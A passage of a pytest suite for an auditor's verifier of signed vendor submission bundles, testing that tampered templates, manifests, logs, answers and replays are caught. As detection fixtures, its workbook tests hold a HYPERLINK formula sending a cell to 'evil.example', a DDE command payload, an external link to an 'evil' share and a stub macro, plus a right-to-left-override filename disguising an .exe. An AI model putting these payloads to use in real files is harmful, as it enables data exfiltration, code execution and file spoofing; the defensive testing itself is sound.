"""Issue 12: the auditor's side trusts nothing the vendor wrote except what the signature proves.

Every hostile bundle here is made the way a vendor with a real signing key would make it
(tests/vendor_kit.py: ``minisign -S``, ``age -e``, GNU ``tar``, ``sha256sum``, the canonical
ZIP): every signature is genuine. Each test names the check that must fail and what it must
say. The content starts from a real export of a workspace of the official 1.0.0 template.
"""

from __future__ import annotations

import shutil

import pytest

from exports import bundle_format as bf
from exports import bundle_report as R
from exports.bundle import export_bundle, verify_bundle
from storage import Workspace

from .bundle_support import fill_conforming, official_template
from .conftest import FAST_KDF, PASSPHRASE
from .vendor_kit import TOOLS, VendorKit

pytestmark = pytest.mark.tools
missing = [t for t in TOOLS if shutil.which(t) is None]
if missing:  # installed by scripts/bootstrap.sh (TEST_PKGS); never skip silently
    pytest.fail(f"standard tools missing: {', '.join(missing)}", pytrace=False)

VENDOR = "株式会社サンプル"


@pytest.fixture(scope="module")
def official_bundle(tmp_path_factory, signer, auditor):
    """A complete workspace of the official 1.0.0 template, exported by the app."""
    root = tmp_path_factory.mktemp("official")
    with Workspace.create(root / "ws", PASSPHRASE, vendor=VENDOR, template=official_template(),
                          kdf=FAST_KDF) as ws:
        fill_conforming(ws, root / "sources")
        export_bundle(ws, root / "bundle.zip", signing_key=signer.key, recipients=[auditor.recipient])
    return root / "bundle.zip"


@pytest.fixture
def kit(tmp_path, signer, auditor) -> VendorKit:
    return VendorKit(tmp_path, signer, auditor)


def verify(bundle, signer, auditor, **kw):
    return verify_bundle(bundle, signer=signer.public_path, identity=auditor.identity_path, **kw)


def failed(report) -> dict[str, str]:
    return {c.name: c.detail for c in report.checks if not c.ok}


def test_the_kit_rebuilds_a_bundle_that_verifies(official_bundle, kit, signer, auditor):
    """Sanity: the tools' bundle, untouched, passes every check (each failure below is the hostile change)."""
    report = verify(kit.build(kit.take_apart(official_bundle)), signer, auditor)
    assert report.ok, report.first_problem()
    assert report.official_template and report.assessment.can_submit


# --- helpers -------------------------------------------------------------------------------


def _template_item(kind):
    from questionnaire.template import AnswerKind

    return next(i.id for i in official_template().items if i.kind is AnswerKind(kind) and i.show_if is None)


def _export(root, signer, auditor, *, template=None, vendor=VENDOR, setup=None, complete=True):
    """A real export by the vendor's app (``setup(ws)`` answers what the case needs)."""
    root.mkdir(parents=True, exist_ok=True)
    with Workspace.create(root / "ws", PASSPHRASE, vendor=vendor, template=template or official_template(),
                          kdf=FAST_KDF) as ws:
        if complete:
            fill_conforming(ws, root / "sources")
        if setup is not None:
            setup(ws)
        export_bundle(ws, root / "bundle.zip", signing_key=signer.key, recipients=[auditor.recipient],
                      allow_incomplete=True)
    return root / "bundle.zip"


def _set_template(content, text: str) -> None:
    """Replace template.yaml, naming it consistently everywhere the vendor writes it."""
    import hashlib

    from questionnaire import load_template_text

    t = load_template_text(text)
    content.files[bf.TEMPLATE] = text.encode("utf-8")
    named = {"id": t.id, "version": t.version, "sha256": hashlib.sha256(text.encode("utf-8")).hexdigest()}
    content.sync_answers(template=named)
    content.manifest["template"] = named
    log = content.log
    log[0]["detail"]["template"] = f"{t.id} {t.version}"
    content.put_log(log)


def _cli(*args, **kw):
    from .conftest import run_cli

    return run_cli(*args, passphrase=None, **kw)


def _last_line(r) -> str:
    return r.out.strip().splitlines()[-1]


# --- 1. the template travels with the bundle: it is compared, never believed ------------------------


def _loosened(text: str) -> str:
    import re

    text = re.sub(r"\n        expected: \[[^\]]*\]", "", text)
    return re.sub(r"(\n      - id: [A-Z]+-\d+\n)", r"\1        required: false\n", text)


def test_a_loosened_template_under_the_official_version_is_named(tmp_path, kit, signer, auditor):
    """Every item optional and every expected answer removed, the official ID and version kept; the
    vendor's own app, on that template, says complete with 5 answers."""
    from questionnaire import load_template_text

    official = official_template()
    hostile = load_template_text(_loosened(official.source_text), "ccus-survey-v1.yaml")
    assert (hostile.id, hostile.version) == (official.id, official.version)

    five = [i.id for i in hostile.items if i.kind.value == "status"][:5]

    def five_answers(ws):
        ws.set_answers(dict.fromkeys(five, "yes"))

    exported = _export(tmp_path / "v", signer, auditor, template=hostile, complete=False, setup=five_answers)
    bundle = kit.build(kit.take_apart(exported))
    assert kit.take_apart(bundle).manifest["complete"] is True  # what the vendor's app claimed
    report = verify(bundle, signer, auditor)
    problems = failed(report)
    detail = problems[R.OFFICIAL_TEMPLATE]
    assert f"differs from the official text of {official.id} {official.version}" in detail
    assert "items made optional (AGR-01, AGR-02, AGR-03, …)" in detail
    assert "expected answers changed" in detail
    assert "judged against the official text" in detail
    assert report.template_diff.looser and report.judged_with.official  # judged by the official text
    # recomputed against the official template: far from complete, and the claim is named
    assert not report.assessment.can_submit and report.assessment.complete <= 5
    assert "the manifest says complete, the recomputation finds it incomplete" in problems[R.CONCLUSIONS]
    # the CLI: non-zero, and never "verified" as its last line
    r = _cli("verify", str(bundle), "--signer", str(signer.public_path), "--identity",
             str(auditor.identity_path))
    assert r.code == 1 and "official-template" in r.err
    assert "verified" not in r.out and not _last_line(r).startswith("verified")
    assert "FAIL official-template: template.yaml differs from the official text" in r.out


@pytest.mark.parametrize(("edit", "named"), [
    (lambda t: t.replace("建設キャリアアップシステム利用規約の内容を確認し", "利用規約を読み", 1),
     "1 question texts changed (AGR-01)"),
    (lambda t: t + "\n# a comment the vendor added\n", "formatting or comments changed (same questions)"),
    (lambda t: t.replace('        expected: ["yes"]\n        source: "契約書 第2条1項①"',
                         '        source: "契約書 第2条1項①"', 1),
     "1 expected answers changed (AGR-01)"),
])
def test_any_difference_from_the_official_text_fails(official_bundle, kit, signer, auditor, edit, named):
    content = kit.take_apart(official_bundle)
    text = official_template().source_text
    changed = edit(text)
    assert changed != text
    _set_template(content, changed)
    report = verify(kit.build(content), signer, auditor)
    assert named in failed(report)[R.OFFICIAL_TEMPLATE]


def test_an_unknown_template_version_is_judged_only_against_a_file_the_auditor_supplies(
        official_bundle, kit, signer, auditor, tmp_path):
    content = kit.take_apart(official_bundle)
    text = official_template().source_text.replace('version: "1.0.0"', 'version: "9.9.9"', 1)
    _set_template(content, text)
    for name in (bf.CHECKLIST, bf.REPORT):  # rendered for 1.0.0: optional members, left out
        del content.files[name]
    bundle = kit.build(content)
    report = verify(bundle, signer, auditor)
    detail = failed(report)[R.OFFICIAL_TEMPLATE]
    assert "version 9.9.9 is not a template this app ships" in detail and "--template FILE" in detail
    assert report.assessment is None and R.CONCLUSIONS in failed(report)  # nothing is recomputed
    # the auditor explicitly accepts the file: judged, and every output says so
    supplied = tmp_path / "draft-9.9.9.yaml"
    supplied.write_text(text, "utf-8")
    report = verify(bundle, signer, auditor, templates=[supplied])
    assert report.ok, report.first_problem()
    assert not report.official_template and report.as_dict()["template"]["official"] is False
    assert "UNOFFICIAL" in report.check(R.OFFICIAL_TEMPLATE).detail
    args = ("verify", str(bundle), "--signer", str(signer.public_path), "--identity",
            str(auditor.identity_path))
    r = _cli(*args, "--template", str(supplied))
    assert r.code == 0, r.err
    assert _last_line(r).startswith("UNOFFICIAL TEMPLATE: the contents were judged against")
    assert "UNOFFICIAL template ccus-personal-info-survey 9.9.9" in r.out.splitlines()[3]
    r = _cli(*args, "--template", str(supplied), "--json")
    assert r.code == 0 and '"official": false' in r.out
    # a file posing as an official version is refused outright
    poser = tmp_path / "poser.yaml"
    poser.write_text(_loosened(official_template().source_text), "utf-8")
    r = _cli(*args, "--template", str(poser))
    assert r.code == 1 and "calls itself ccus-personal-info-survey 1.0.0, an official version" in r.err
    assert len(r.err.strip().splitlines()) == 1


# --- 2. the manifest's conclusions are recomputed, with the function export uses --------------------


def test_export_and_verify_compute_the_conclusions_with_one_function(official_bundle, signer, auditor):
    from exports.bundle_claims import CLAIM_KEYS, conclusions

    report = verify(official_bundle, signer, auditor)
    assert report.ok, report.first_problem()
    recomputed = conclusions(report.assessment)
    for key in CLAIM_KEYS:  # exactly what the exporter wrote, message texts included
        assert report.manifest[key] == recomputed[key], key


@pytest.fixture(scope="module")
def incomplete_bundle(tmp_path_factory, signer, auditor):
    """An honest --allow-incomplete export: 3 answers, everything else open."""
    def three(ws):
        ws.set_answers({"AGR-01": "yes", "AGR-02": "yes", "AGR-03": "no"})

    return _export(tmp_path_factory.mktemp("incomplete"), signer, auditor, complete=False, setup=three)


def _claim_complete(m):
    m.update(complete=True, blockers=[])


def _claim_status_counts(m):
    m["assessment"]["status_counts"] = {"yes": 116}


def _claim_assessed_long_ago(m):
    m["assessed_on"] = "2020-01-01"


def _claim_invented_blocker(m):
    m["blockers"].append({**m["blockers"][0], "item_id": "AGR-02", "code": "nonconforming"})


@pytest.mark.parametrize(("edit", "named"), [
    (_claim_complete, "the manifest says complete, the recomputation finds it incomplete"),
    (_claim_status_counts, "assessment.status_counts"),
    (_claim_assessed_long_ago, "judged on 2020-01-01, before the export"),
    (_claim_invented_blocker, "blocking problems, the recomputation"),
])
def test_a_manifest_claim_that_disagrees_is_named(incomplete_bundle, kit, signer, auditor, edit, named):
    bundle = kit.build(kit.take_apart(incomplete_bundle), manifest_edit=edit)
    report = verify(bundle, signer, auditor)
    assert named in failed(report)[R.CONCLUSIONS]
    # what the auditor is shown is the recomputation, not the claim
    assert not report.assessment.can_submit and len(report.assessment.blockers) > 50
    r = _cli("verify", str(bundle), "--signer", str(signer.public_path), "--identity",
             str(auditor.identity_path))
    assert r.code == 1 and "verified" not in r.out
    assert "conclusion: recomputed on" in r.out and "INCOMPLETE" in r.out


def test_an_honest_incomplete_bundle_verifies_and_says_incomplete(incomplete_bundle, signer, auditor):
    report = verify(incomplete_bundle, signer, auditor)
    assert report.ok, report.first_problem()
    assert "INCOMPLETE" in report.conclusion_lines("en")[0]


# --- 3. every answer goes through the vendor app's own parser ----------------------------------------


@pytest.mark.parametrize(("item", "value", "named"), [
    ("AGR-01", "はい（ただし未実施）", "answer AGR-01: 'はい（ただし未実施）' is not one of yes (はい)"),
    ("number", "=1+1", "'=1+1' is not a number"),
    ("number", "3", "is not the stored form the app writes (3)"),
    ("single", "bogus", "'bogus' is not one of"),
    ("AGR-01", ["yes"], "expected one of"),
])
def test_answers_outside_the_template_fail(official_bundle, kit, signer, auditor, item, value, named):
    item = {"number": _template_item("number"), "single": _template_item("single")}.get(item, item)
    content = kit.take_apart(official_bundle)
    doc = content.json(bf.ANSWERS)
    doc["answers"][item]["value"] = value
    content.put_json(bf.ANSWERS, doc)
    log = content.log
    for e in log:  # the vendor keeps the log consistent: it is only a hash chain
        if e["action"] == "answer.set" and e["item"] == item:
            e["detail"]["value"] = value
    content.put_log(log)
    report = verify(kit.build(content), signer, auditor)
    problems = failed(report)
    assert named in problems[R.ANSWER_VALUES], problems[R.ANSWER_VALUES]
    assert "(rule: invalid-answer)" in problems[R.ANSWER_VALUES]
    assert R.ACTIVITY_REPLAY not in problems


# --- 4. the activity log beyond its chain ----------------------------------------------------------------


def _append(action, item=None, **detail):
    def edit(log):
        log.append({"at": log[-1]["at"], "action": action, "item": item, "detail": detail})
    return edit


def _date(n, at):
    def edit(log):
        log[n]["at"] = at
    return edit


def _created_an_hour_later(log):
    import datetime as dt

    created = dt.datetime.fromisoformat(log[0]["at"].replace("Z", "+00:00")) + dt.timedelta(hours=1)
    log[0]["at"] = created.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def _drop_answer(log):
    gone = next(e for e in log if e["action"] == "answer.set")
    log.remove(gone)


def _remove_held_evidence(log):
    added = next(e for e in log if e["action"] == "evidence.added")
    _append("evidence.removed", added["item"], evidence=added["detail"]["evidence"],
            filename=added["detail"]["filename"], sha256=added["detail"]["sha256"])(log)


@pytest.mark.parametrize(("edit", "check", "named"), [
    (_append("auditor.approved", None, by="監査人"), R.ACTIVITY_EVENTS,
     "an unknown event type the app never writes: entry"),
    (lambda log: log.clear(), R.ACTIVITY_EVENTS, "the log is empty"),
    (_date(-1, "2099-01-01T00:00:00.000Z"), R.ACTIVITY_TIMES, "1 entry dated after the export"),
    (_date(5, "2019-04-01T00:00:00.000Z"), R.ACTIVITY_TIMES,
     "1 entry dated before the workspace was created"),
    (_created_an_hour_later, R.ACTIVITY_TIMES, "where the timestamps go backwards: entry 2"),
    (_date(3, "yesterday"), R.ACTIVITY_TIMES, "without an app timestamp"),
    (_append("answer.set", "AGR-01", value="no", note="後で直す"), R.ACTIVITY_REPLAY,
     "answer AGR-01 differs from what log entry"),
    (_drop_answer, R.ACTIVITY_REPLAY, "is in answers.json, but the log never set it"),
    (_remove_held_evidence, R.ACTIVITY_REPLAY,
     "is in the bundle, but the log never added it (or removed it)"),
    (_append("answer.set", "XYZ-99", value="yes"), R.ACTIVITY_EVENTS, "not an item of the template"),
])
def test_a_rebuilt_activity_log_is_checked_beyond_its_chain(official_bundle, kit, signer, auditor, edit,
                                                            check, named):
    content = kit.take_apart(official_bundle)
    log = content.log
    edit(log)
    content.put_log(log)  # rechained: the chain itself holds
    report = verify(kit.build(content), signer, auditor)
    problems = failed(report)
    assert R.ACTIVITY_LOG not in problems, problems.get(R.ACTIVITY_LOG)
    assert named in problems[check], problems.get(check)
    r = _cli("verify", str(kit.build(content)), "--signer", str(signer.public_path), "--identity",
             str(auditor.identity_path))
    assert r.code == 1 and f"FAIL {check}:" in r.out


def test_what_the_log_proves_is_said(official_bundle, signer, auditor):
    report = verify(official_bundle, signer, auditor)
    assert "the vendor's own record" in report.check(R.ACTIVITY_LOG).detail
    assert "the vendor's clock" in report.check(R.ACTIVITY_TIMES).detail


# --- 5. the vendor's checklist and report are inspected, never believed ------------------------------


def _rezip(data: bytes, edit) -> bytes:
    import io
    import zipfile

    parts = {}
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for info in zf.infolist():
            parts[info.filename] = zf.read(info)
    edit(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
    return out.getvalue()


def _with_cell(value):
    def edit(data: bytes, sid: str) -> bytes:
        import io

        from openpyxl import load_workbook

        wb = load_workbook(io.BytesIO(data))
        wb["チェックリスト"]["E5"] = value
        out = io.BytesIO()
        wb.save(out)
        return out.getvalue()
    return edit


def _external_link(data: bytes, sid: str) -> bytes:
    rel = ('<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           'externalLink" Target="file://///evil/share/x.xlsx" TargetMode="External"/></Relationships>')
    name = "xl/_rels/workbook.xml.rels"
    return _rezip(data, lambda p: p.update({name: p[name].replace(b"</Relationships>", rel.encode())}))


def _macro(data: bytes, sid: str) -> bytes:
    return _rezip(data, lambda p: p.update({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}))


def _other_submission(data: bytes, sid: str) -> bytes:
    other = "00000000-1111-2222-3333-444444444444"
    return _rezip(data, lambda p: p.update({k: v.replace(sid.encode(), other.encode())
                                            for k, v in p.items()}))


@pytest.mark.parametrize(("edit", "named"), [
    (_with_cell('=HYPERLINK("https://evil.example/?"&F5,"詳細")'), "formula: cell E5"),
    (_with_cell("=cmd|' /c calc'!A0"), "dde: a DDE call"),
    (_external_link, "external-link: xl/_rels/workbook.xml.rels points outside the workbook"),
    (_macro, "macro: part xl/vbaProject.bin"),
    (_other_submission, "binding: it was made for submission 00000000-1111-2222-3333-444444444444"),
])
def test_a_bundled_workbook_with_active_content_or_another_binding_fails(official_bundle, kit, signer,
                                                                         auditor, edit, named):
    content = kit.take_apart(official_bundle)
    sid = content.manifest["submission_id"]
    content.files[bf.CHECKLIST] = edit(content.files[bf.CHECKLIST], sid)
    report = verify(kit.build(content), signer, auditor)
    detail = failed(report)[R.VENDOR_DOCUMENTS]
    assert detail.startswith("checklist.xlsx: ") and named in detail, detail
    assert set(failed(report)) == {R.VENDOR_DOCUMENTS}  # nothing else is wrong with the bundle


def test_the_auditor_is_offered_its_own_renderings(official_bundle, signer, auditor, tmp_path):
    """open says the folder's checklist/report are the vendor's; checklist/report render the app's own."""
    dest = tmp_path / "opened"
    r = _cli("open", str(official_bundle), "--signer", str(signer.public_path), "--identity",
             str(auditor.identity_path), "--out", str(dest))
    assert r.code == 0, r.err
    assert "checklist.xlsx and report.pdf in the folder are the vendor's renderings" in r.out
    r = _cli("checklist", str(dest), "--out", str(tmp_path / "mine.xlsx"))
    assert r.code == 0, r.err
    assert (tmp_path / "mine.xlsx").read_bytes() != (dest / bf.CHECKLIST).read_bytes()
    ok = verify(official_bundle, signer, auditor).check(R.VENDOR_DOCUMENTS)
    assert ok.ok and "the app renders its own" in ok.detail and "report.pdf is hashed only" in ok.detail


# --- 6. names that display as something else -------------------------------------------------------------


RLO_NAME = "ISMS-certificate-\u202efdp.exe"


def test_export_refuses_names_that_display_as_another(complete_ws, tmp_path, signer, auditor):
    from exports.errors import BundleError
    from storage import EvidenceMeta

    src = tmp_path / "cert.pdf"
    src.write_bytes(b"%PDF-1.4 x")
    complete_ws.add_evidence("CERT-02", src, EvidenceMeta("certificate"), filename=RLO_NAME)
    with pytest.raises(BundleError, match=r"U\+202E RIGHT-TO-LEFT OVERRIDE .*\(rule: bidi-control\)") as exc:
        export_bundle(complete_ws, tmp_path / "b.zip", signing_key=signer.key, recipients=[auditor.recipient])
    assert "\u202e" not in str(exc.value)  # shown escaped
    assert not (tmp_path / "b.zip").exists()


def test_export_refuses_a_vendor_name_with_format_characters(tmp_path, mini_template, signer, auditor):
    from exports.errors import BundleError

    from .bundle_support import fill_complete

    with Workspace.create(tmp_path / "ws", PASSPHRASE, vendor="株式会社\u200bサンプル",
                          template=mini_template, kdf=FAST_KDF) as ws:
        fill_complete(ws, tmp_path / "src")
        with pytest.raises(BundleError, match=r"vendor name: U\+200B ZERO WIDTH SPACE .*format-character"):
            export_bundle(ws, tmp_path / "b.zip", signing_key=signer.key, recipients=[auditor.recipient])


def _rename_evidence(content, new_name: str) -> None:
    """Rename the first evidence file everywhere the vendor writes its name."""
    doc = content.json(bf.ANSWERS)
    ev = doc["evidence"][0]
    old_path = ev["path"]
    ev["filename"] = new_name
    ev["path"] = f"evidence/{ev['item_id']}/{new_name}"
    content.put_json(bf.ANSWERS, doc)
    content.manifest["evidence"] = doc["evidence"]
    content.rename_member(old_path, ev["path"])
    log = content.log
    for e in log:
        if e["action"] == "evidence.added" and e["detail"]["evidence"] == ev["id"]:
            e["detail"]["filename"] = new_name
    content.put_log(log)


@pytest.mark.parametrize(("name", "rule"), [
    (RLO_NAME, "bidi-control"),
    ("証明書\u200b.pdf", "format-character"),
    ("CON.pdf", "windows-reserved-name"),
    ("certificate.pdf.", "windows-trailing-dot"),
])
def test_member_names_that_display_as_another_fail_verify(official_bundle, kit, signer, auditor, name, rule):
    content = kit.take_apart(official_bundle)
    _rename_evidence(content, name)
    bundle = kit.build(content)
    report = verify(bundle, signer, auditor)
    detail = failed(report)[R.ARCHIVE]
    assert f"(rule: {rule})" in detail, detail
    r = _cli("verify", str(bundle), "--signer", str(signer.public_path), "--identity",
             str(auditor.identity_path))
    assert r.code == 1 and f"rule: {rule}" in r.out
    assert "\u202e" not in r.out + r.err and "\u200b" not in r.out + r.err  # escaped when shown


@pytest.mark.parametrize(("where", "rule"), [
    ("vendor", "bidi-control"),
    ("title", "format-character"),
])
def test_vendor_and_evidence_names_that_display_as_another_fail_verify(official_bundle, kit, signer, auditor,
                                                                       where, rule):
    content = kit.take_apart(official_bundle)
    if where == "vendor":
        content.sync_answers(vendor="株式会社\u202eーイビ")
    else:
        doc = content.json(bf.ANSWERS)
        doc["evidence"][0]["title"] = "ISMS\u2060登録証"
        content.put_json(bf.ANSWERS, doc)
        content.manifest["evidence"] = doc["evidence"]
    report = verify(kit.build(content), signer, auditor)
    detail = failed(report)[R.NAMES]
    assert f"(rule: {rule})" in detail and ("vendor name" if where == "vendor" else " title:") in detail


# --- 7. vendor name against pinned key: the CLI has the pins too ------------------------------------------


def test_the_cli_pins_keys_and_refuses_a_key_under_another_name_or_a_name_with_another_key(
        official_bundle, kit, signer, other_signer, auditor, tmp_path):
    pins = tmp_path / "pins.json"
    base = ("--identity", str(auditor.identity_path), "--pins", str(pins))

    def run(bundle, key, *extra):
        return _cli("verify", str(bundle), "--signer", str(key.public_path), *base, *extra)

    r = run(official_bundle, signer)
    assert r.code == 0, r.err
    assert f"first bundle of '{VENDOR}': key {signer.key_id} is not pinned yet; pinned now" in r.out
    # the same key signs a bundle that calls its vendor 株式会社ビー
    content = kit.take_apart(official_bundle)
    content.sync_answers(vendor="株式会社ビー")
    impostor = kit.build(content)
    r = run(impostor, signer)
    assert r.code == 1 and "signer-pin" in r.err
    assert (f"key {signer.key_id} is pinned for '{VENDOR}', but this bundle calls its vendor "
            "'株式会社ビー'") in r.out
    assert "--accept-signer" in r.out and "verified" not in r.out
    # another key signs as 株式会社サンプル
    other = VendorKit(tmp_path / "other", other_signer, auditor).build(kit.take_apart(official_bundle))
    r = run(other, other_signer)
    assert r.code == 1 and f"'{VENDOR}' is pinned to key {signer.key_id}" in r.out
    # nothing was re-pinned on its own
    import json

    doc = json.loads(pins.read_text("utf-8"))
    assert [(p["vendor"], p["key_id"]) for p in doc["pins"]] == [(VENDOR, signer.key_id)]
    # the auditor decides explicitly
    r = run(impostor, signer, "--accept-signer")
    assert r.code == 0 and "ACCEPTED by you" in r.out
    assert run(impostor, signer).code == 0  # now pinned under both names
    # the desktop app reads the same pins (its default store is the same file)
    from exports.bundle_pins import PinStore

    assert {p.vendor for p in PinStore(pins).all()} == {VENDOR, "株式会社ビー"}


# --- 8. replays: submission ID and Japan-time export time first; earlier sightings -------------------------


def test_export_time_in_japan_time():
    import datetime as dt

    from exports.bundle_report import format_jst

    when = dt.datetime(2026, 12, 1, 5, 3, tzinfo=dt.UTC)
    assert format_jst(when) == "2026年12月1日 14:03 JST"
    assert format_jst(when, "en") == "2026-12-01 14:03 JST"


def test_a_replayed_submission_is_recognised(official_bundle, kit, signer, auditor, tmp_path):
    args = ("--signer", str(signer.public_path), "--identity", str(auditor.identity_path))
    r = _cli("verify", str(official_bundle), *args)
    assert r.code == 0, r.err
    report = verify(official_bundle, signer, auditor)
    head = r.out.splitlines()[:2]
    assert head[0] == f"submission  : {report.submission_id}"
    assert head[1].startswith(f"exported    : {_jst(report.exported_at)} (signed by key {signer.key_id}")
    r = _cli("verify", str(official_bundle), *args)  # the auditor looks again: said, not alarming
    assert "this submission ID was seen before" in r.out and "(the same signed payload)" in r.out
    assert _last_line(r).startswith("verified:")
    # the old payload re-signed under its own ID: same submission, other signed bytes
    replayed = kit.build(kit.take_apart(official_bundle))
    r = _cli("--lang", "en", "verify", str(replayed), *args)
    assert r.code == 0
    assert _last_line(r).startswith("WARNING: this submission ID was seen before with DIFFERENT content")
    assert f"verify of {official_bundle}" in r.out and "re-signed or replayed" in r.out
    r = _cli("verify", str(replayed), *args, "--json")
    import json

    assert json.loads(r.out)["replay_suspected"] is True
    r = _cli("--lang", "ja", "open", str(replayed), *args, "--out", str(tmp_path / "o"))
    assert r.code == 0 and r.out.splitlines()[0] == f"提出ID      : {report.submission_id}"
    assert "注意: この提出IDは以前に別の内容で確認されています" in r.out


def _jst(when):
    from exports.bundle_report import format_jst

    return format_jst(when, "en")


# --- 9. bounded work: cancellable after the last byte too ---------------------------------------------------


def test_the_checks_after_the_last_byte_honour_cancel(official_bundle, signer, auditor, tmp_path):
    from storage.errors import Cancelled

    state = {"done": 0, "total": 1}
    with pytest.raises(Cancelled):  # every byte was read: only the content checks are left
        verify(official_bundle, signer, auditor, progress=lambda d, t: state.update(done=d, total=t),
               cancel=lambda: state["done"] >= state["total"] > 1)
    from exports.bundle import open_bundle

    state = {"done": 0, "total": 1}
    with pytest.raises(Cancelled):
        open_bundle(official_bundle, tmp_path / "o", signer=signer.public_path,
                    identity=auditor.identity_path, progress=lambda d, t: state.update(done=d, total=t),
                    cancel=lambda: state["done"] >= state["total"] > 1)
    assert not (tmp_path / "o").exists()


# --- 10. every text bounded by the template's and the vendor app's limits --------------------------------


def _long_note(content):
    doc = content.json(bf.ANSWERS)
    doc["answers"]["AGR-01"]["note"] = "備" * 8_001
    content.put_json(bf.ANSWERS, doc)
    log = content.log
    for e in log:
        if e["action"] == "answer.set" and e["item"] == "AGR-01":
            e["detail"]["note"] = "備" * 8_001
    content.put_log(log)


def _long_vendor(content):
    content.sync_answers(vendor="株" * 501)


def _long_log_line(content):
    log = content.log
    log.append({"at": log[-1]["at"], "action": "report.exported", "item": None,
                "detail": {"file": "r.pdf", "sha256": "0" * 64, "pad": "x" * 300_000}})
    content.put_log(log)


@pytest.mark.parametrize(("edit", "named"), [
    (_long_note, "note of AGR-01: 8001 characters long; at most 8000 are allowed (rule: note-too-long)"),
    (_long_vendor, "vendor name: 501 characters long; at most 500 are allowed (rule: vendor-too-long)"),
    (_long_log_line, "activity-log.jsonl: an entry is 300"),
])
def test_texts_past_the_limits_fail(official_bundle, kit, signer, auditor, edit, named):
    content = kit.take_apart(official_bundle)
    edit(content)
    report = verify(kit.build(content), signer, auditor)
    assert named in failed(report)[R.LIMITS], failed(report)[R.LIMITS]


def test_renderers_on_an_opened_folder_get_bounded_input(official_bundle, signer, auditor, tmp_path):
    """A folder edited after it was opened: a 4 MiB note is refused at once, not rendered for minutes."""
    import json
    import time

    dest = tmp_path / "opened"
    r = _cli("open", str(official_bundle), "--signer", str(signer.public_path), "--identity",
             str(auditor.identity_path), "--out", str(dest))
    assert r.code == 0, r.err
    doc = json.loads((dest / bf.ANSWERS).read_text("utf-8"))
    doc["answers"]["AGR-01"]["note"] = "備" * (4 << 20)
    (dest / bf.ANSWERS).write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
    started = time.monotonic()
    r = _cli("report", str(dest), "--out", str(tmp_path / "r.pdf"))
    assert r.code == 1 and "rule: note-too-long" in r.err and len(r.err.strip().splitlines()) == 1
    assert time.monotonic() - started < 60  # refused before rendering (the issue measured 253 s)
    assert not (tmp_path / "r.pdf").exists()


# --- the rules' own bookkeeping ---------------------------------------------------------------------------


def test_every_action_the_app_logs_is_known_to_the_log_check():
    """A new activity action must be added to exports/bundle_log.KNOWN_ACTIONS, or every bundle
    of a workspace that used it would fail verification."""
    import re

    from exports.bundle_log import KNOWN_ACTIONS

    from .conftest import ROOT

    written = set()
    for folder in ("storage", "exports", "desktop", "cli"):
        for path in (ROOT / folder).rglob("*.py"):
            for line in path.read_text("utf-8").splitlines():
                if re.search(r"tx\.log\(|record_activity\(|LogEntry\.make\(|_ACTION =|ACTIONS = ", line):
                    written |= set(re.findall(r'"([a-z_]+\.[a-z_]+)"', line))
    assert {"answer.set", "workspace.restored", "review.imported", "checklist.exported"} <= written
    assert written <= KNOWN_ACTIONS, written - KNOWN_ACTIONS


def test_the_released_template_never_changes():
    from questionnaire.official_templates import OFFICIAL_PATTERN, official_templates

    from .conftest import ROOT

    registry = official_templates()
    v1 = registry.find("ccus-personal-info-survey", "1.0.0")
    assert v1.file == "ccus-survey-v1.yaml"
    assert v1.sha256 == "fd113ec1ea604caaf6c6bc40156972731cf54dd4cac58eb312a05618cfb50a3b"
    shipped = sorted(p.name for p in (ROOT / "questionnaire" / "templates").glob(OFFICIAL_PATTERN))
    assert sorted(e.file for e in registry) == shipped  # data-driven: every file is a released version


def test_two_files_may_not_release_the_same_version():
    from questionnaire.errors import TemplateError
    from questionnaire.official_templates import OfficialTemplate, TemplateRegistry

    t = official_template()
    with pytest.raises(TemplateError, match="also released as"):
        TemplateRegistry([OfficialTemplate("a.yaml", t), OfficialTemplate("b.yaml", t)])


def test_the_vendor_app_limits_are_the_ones_verify_enforces():
    from questionnaire.answers import MAX_NOTE_CHARS
    from questionnaire.submission_rules import MAX_META_CHARS
    from storage.workspace import MAX_META_CHARS as VENDOR_APP_META

    assert MAX_META_CHARS == VENDOR_APP_META and MAX_NOTE_CHARS == 8000


# --- export-time: the signed time, the manifest's time and the auditor's clock -----------------------


def _created(content) -> int:
    import datetime as dt

    return int(dt.datetime.fromisoformat(content.manifest["created_at"].replace("Z", "+00:00")).timestamp())


def test_a_signed_time_far_from_the_manifests_fails_export_time(official_bundle, kit, signer, auditor):
    """The vendor signs with its real key at a time three days before the manifest's created_at
    (a re-signed old payload, or a hand-edited manifest): the check says both times."""
    content = kit.take_apart(official_bundle)
    signed_at = _created(content) - 3 * 86400
    report = verify(kit.build(content, signed_at=signed_at), signer, auditor)
    assert not report.ok
    detail = failed(report)[R.EXPORT_TIME]
    assert "manifest.json says it was made at" in detail and "the signature at" in detail
    # the CLI: non-zero, the check named, never "verified" last
    r = _cli("verify", str(kit.build(content, signed_at=signed_at)), "--signer", str(signer.public_path),
             "--identity", str(auditor.identity_path))
    assert r.code == 1 and "FAIL export-time" in r.out and "export-time" in r.err
    assert not _last_line(r).startswith("verified")


def test_an_export_dated_in_the_future_fails_export_time(official_bundle, kit, signer, auditor):
    """Manifest and signature agree, both 30 days ahead of the auditor's clock: refused, with
    and without the identity (the outer signature's time alone is checked then)."""
    import datetime as dt

    from exports.bundle_judgement import FUTURE_TOLERANCE

    content = kit.take_apart(official_bundle)
    future = dt.datetime.now(dt.UTC).replace(microsecond=0) + dt.timedelta(days=30)
    content.manifest["created_at"] = future.isoformat().replace("+00:00", "Z")
    bundle = kit.build(content)  # signed at the manifest's time
    report = verify(bundle, signer, auditor)
    assert not report.ok and "in the future by this computer's clock" in failed(report)[R.EXPORT_TIME]
    outer = verify_bundle(bundle, signer=signer.public_path)
    assert not outer.ok and "in the future" in failed(outer)[R.EXPORT_TIME]
    # just inside the tolerance (a vendor clock a few minutes fast) passes this check
    near = dt.datetime.now(dt.UTC).replace(microsecond=0) + FUTURE_TOLERANCE / 3
    content.manifest["created_at"] = near.isoformat().replace("+00:00", "Z")
    report = verify(kit.build(content), signer, auditor)
